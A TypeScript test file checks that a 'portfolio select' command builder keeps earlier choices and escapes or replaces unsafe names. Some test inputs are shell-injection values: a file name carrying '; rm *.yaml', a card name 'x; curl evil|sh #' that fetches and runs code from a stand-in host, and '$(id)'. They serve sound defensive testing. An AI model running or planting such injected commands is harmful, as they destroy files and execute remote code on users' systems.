import { expect, test } from 'vitest';
import { commandFor } from '../../../src/render/select/command-for.ts';

const none = {
  force: [],
  without: [],
  frames: [],
  weightsFile: null,
  confidence: null,
  weightDraws: null,
  quick: false,
};

test('what was tried before is kept, and a frame that is given anew takes the place of the old', () => {
  const wishes = {
    ...none,
    force: ['a'],
    without: ['b'],
    frames: [
      { year: 2028, amount: 5 },
      { year: 2027, amount: 1 },
    ],
  };
  expect(commandFor(wishes, { force: ['c'], frames: [{ year: 2027, amount: 2 }] })).toBe(
    'portfolio select --force a --force c --without b --frame 2027=2 --frame 2028=5',
  );
});

test('the name of a file is safe to type', () => {
  const command = (weightsFile: string) => commandFor({ ...none, weightsFile }, { force: [], frames: [] });
  expect(command('weights/kari.yaml')).toBe('portfolio select --weights weights/kari.yaml');
  expect(command("kari's; rm *.yaml")).toBe("portfolio select --weights 'kari'\\''s; rm *.yaml'");
});

test('confidence and the way of drawing are kept', () => {
  const wishes = { ...none, confidence: 85, weightDraws: 'uniform' } as const;
  expect(commandFor(wishes, { force: ['a'], frames: [] })).toBe(
    'portfolio select --force a --confidence 85 --weight-draws uniform',
  );
});

test('the name of a card is never more than a name', () => {
  const wishes = { ...none, force: ['x; curl evil|sh #'], without: ['-rf', 'sak-ki'] };
  expect(commandFor(wishes, { force: ['$(id)'], frames: [] })).toBe(
    'portfolio select --force ID --force ID --without ID --without sak-ki',
  );
});
